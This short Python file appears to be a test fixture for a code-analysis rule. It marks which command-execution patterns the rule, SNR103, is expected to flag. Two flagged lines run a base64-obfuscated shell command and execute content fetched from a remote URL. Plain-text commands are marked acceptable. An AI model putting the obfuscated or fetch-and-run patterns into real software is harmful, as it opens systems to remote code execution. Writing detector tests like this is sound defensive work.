import base64
import os
import subprocess
import urllib.request

os.system(base64.b64decode("aWQ=").decode())  # expect: SNR103
subprocess.run(urllib.request.urlopen("https://x.io/c").read())  # expect: SNR103

subprocess.run(["ffmpeg", "-i", "in.ogg", "out.wav"])  # ok: a command in the clear
os.system("id")  # ok: likewise, which needs process
